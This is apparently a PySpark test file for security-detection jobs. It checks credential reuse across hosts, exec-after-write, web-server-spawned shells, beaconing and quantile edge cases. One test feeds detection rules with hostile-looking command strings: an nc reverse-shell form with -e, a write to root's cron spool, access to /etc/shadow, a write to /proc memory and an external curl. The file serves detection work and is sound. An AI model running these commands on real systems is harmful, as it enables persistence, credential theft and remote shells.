"""Detection jobs: ties, zero gaps, midnight pairs, null groups."""

from pyspark.sql import functions as F

from secstream.operators import detections as D

SCHEMA = ("doc_id string, event_name string, event_time timestamp, "
          "attributes struct<host_name string, process_name string, user_id bigint, process_id bigint, "
          "parent_process_id bigint, args string>")


def frame(spark, rows):
    """rows: (doc_id, event, time text, host, process, user, pid, ppid[, args])."""
    data = [(r[0], r[1], r[2], (r[3], r[4], r[5], r[6], r[7], r[8] if len(r) > 8 else "")) for r in rows]
    return spark.createDataFrame(data, SCHEMA.replace("event_time timestamp", "t string")) \
        .select("doc_id", "event_name", F.col("t").cast("timestamp").alias("event_time"), "attributes")


def test_credential_on_two_hosts_across_midnight(spark):
    df = frame(spark, [("a", "x", "2024-01-01 23:50:00", "h1", "p", 5, 1, 0),
                       ("b", "x", "2024-01-02 00:10:00", "h2", "p", 5, 1, 0),
                       ("c", "x", "2024-01-05 00:10:00", "h3", "p", 5, 1, 0),
                       ("d", "x", None, "h4", "p", 5, 1, 0), ("e", "x", "2024-01-02 00:10:00", "h9", "p", None, 1, 0)])
    assert D.shared_credentials(df, 1440, 2).count() == 0
    got = D.shared_credentials_sliding(df, 1440, 60, 2).collect()
    assert len(got) == 23 and {(r["user_id"], r["hosts"], r["events"]) for r in got} == {(5, 2, 2)}


def test_exec_after_write_across_buckets_and_ties(spark):
    df = frame(spark, [("w1", "write", "2024-01-01 00:04:59", "h", "p", 1, 1, 0),
                       ("x1", "execve", "2024-01-01 00:05:01", "h", "p", 1, 1, 0),
                       ("x2", "execve", "2024-01-01 00:09:59", "h", "p", 1, 1, 0),
                       ("x3", "execve", "2024-01-01 00:10:00", "h", "p", 1, 1, 0),
                       ("w4", "write", "2024-01-01 01:00:00", "h", "p", 1, 1, 0),
                       ("x4", "execve", "2024-01-01 01:00:00", "h", "p", 1, 1, 0),
                       ("x5", "execve", "2024-01-01 00:05:01", "other", "p", 1, 1, 0)])
    got = {(r["exec_id"], r["write_id"], r["seconds"]) for r in
           D.exec_after_write(df, {"host": F.col("attributes.host_name")}, 5).collect()}
    assert got == {("x1", "w1", 2.0), ("x2", "w1", 300.0), ("x4", "w4", 0.0)}


def test_process_parents_take_the_latest_earlier_event(spark):
    df = frame(spark, [("p1", "x", "2024-01-01 00:00:00", "h", "nginx", 33, 10, 1),
                       ("p2", "x", "2024-01-01 00:00:05", "h", "nginx", 33, 10, 1),
                       ("c1", "execve", "2024-01-01 00:00:05", "h", "bash", 0, 11, 10),
                       ("c2", "execve", "2024-01-01 00:00:01", "h", "ls", 33, 12, 10),
                       ("c3", "execve", "2024-01-01 00:00:09", "other", "bash", 0, 13, 10),
                       ("c4", "execve", "2024-01-01 00:00:09", "h", "bash", 0, None, None)])
    a = "attributes."
    got = {r["doc_id"]: (r["parent_id"], r["root_from_user"], r["shell_from_web"]) for r in
           D.process_parents(df, F.col(a + "process_id"), F.col(a + "parent_process_id")).collect()}
    assert got == {"c1": ("p2", True, True), "c2": ("p1", False, False)}


def test_rules_follow_the_runbooks(spark):
    cases = {"persistence_path": "tee /var/spool/cron/root", "account_file": "vi /etc/shadow",
             "network_external": "curl --interface 10.0.0.5 http://8.8.8.8/x", "interactive_shell": "nc 8.8.8.8 4444 -e /x",
             "escalation_tool": "sudo id", "process_memory": "dd of=/proc/12/mem"}
    df = frame(spark, [(f"d{i}", "write", "2024-01-01 00:00:00", "h", "p", 1, 1, 0, args)
                       for i, args in enumerate([*cases.values(), "app --value 3", "result --ok", None])]
               + [("t1", "ptrace", "2024-01-01 00:00:00", "h2", "gdb", 1, 1, 0),
                  ("t2", "ptrace", "2024-01-01 00:00:00", "h2", "app", 1, 1, 0)])
    got = {(r["rule"], r["host"]): r["hits"] for r in D.rule_findings(df).collect()}
    want = {(rule, "h"): 1 for rule in cases} | {("process_memory", "h2"): 1}
    want[("network_external", "h")] = 2  # the listener told to execute names an external address as well
    assert got == want


def test_beaconing_in_one_instant_has_no_ratio(spark):
    rows = [(f"d{i}", "2024-01-01 00:00:00", ("10.0.0.1", "a.example.org")) for i in range(6)]
    df = spark.createDataFrame(rows, "doc_id string, t string, attributes struct<source_ip string, dns_query string>") \
        .withColumn("event_time", F.col("t").cast("timestamp"))
    r = D.beaconing(df).first()
    assert (r["calls"], r["cv"], r["regular"]) == (6, None, False)


def test_exact_quantiles_with_ties_and_a_null_key(spark):
    rows = [(i, None if i % 2 else "k", float(i // 4)) for i in range(40)] + [(99, "k", None), (100, "only_null", None)]
    df = spark.createDataFrame(rows, "id int, key string, v double")
    got = {r["key"]: (r["p50"], r["p95"]) for r in D.exact_quantiles(df, "key", "v", "id", {"p50": 0.5, "p95": 0.95})
           .collect()}
    side = sorted(float(i // 4) for i in range(0, 40, 2))
    assert got == {"k": (side[9], side[18]), None: (side[9], side[18])}


def test_credential_exactly_a_day_apart(spark):
    df = frame(spark, [("a", "x", "2024-01-01 00:50:00", "h1", "p", 5, 1, 0),
                       ("b", "x", "2024-01-02 00:10:00", "h2", "p", 5, 1, 0),
                       ("c", "x", "2024-01-03 00:10:00", "h2", "p", 5, 1, 0),
                       ("d", "x", "2024-01-03 00:10:00", None, "p", 5, 1, 0),
                       ("e", "x", "2024-01-04 00:10:00.000001", "h1", "p", 5, 1, 0),
                       ("f", "x", None, "h1", "p", 5, 1, 0), ("g", "x", "2024-01-01 00:50:00", "h9", "p", None, 1, 0)])
    got = {(r["doc_id"], r["other_id"], r["seconds"]) for r in D.shared_credentials_exact(df).collect()}
    # the null host sorts before h2, so c follows d at one instant; e is a microsecond too late
    assert got == {("b", "a", 84000.0), ("d", "b", 86400.0), ("c", "d", 0.0)}


def test_credential_uses_against_brute_force(spark):
    import random
    rng = random.Random(3)
    rows = [(f"d{i:03}", "x", f"2024-01-{1 + rng.randrange(9):02} {rng.randrange(24):02}:00:00", f"h{rng.randrange(3)}", "p",
             rng.choice([1, 1, 1, 2]), 1, 0) for i in range(150)]
    expected = {}
    for e in rows:
        earlier = [w for w in rows if w[5] == e[5] and w[3] != e[3] and (w[2], w[3], w[0]) < (e[2], e[3], e[0])]
        if earlier:
            best = max(earlier, key=lambda w: (w[2], w[3], w[0]))
            hours = (int(e[2][8:10]) - int(best[2][8:10])) * 24 + int(e[2][11:13]) - int(best[2][11:13])
            if hours <= 24:
                expected[e[0]] = (best[0], hours * 3600.0)
    got = {r["doc_id"]: (r["other_id"], r["seconds"]) for r in D.shared_credentials_exact(frame(spark, rows)).collect()}
    assert got == expected
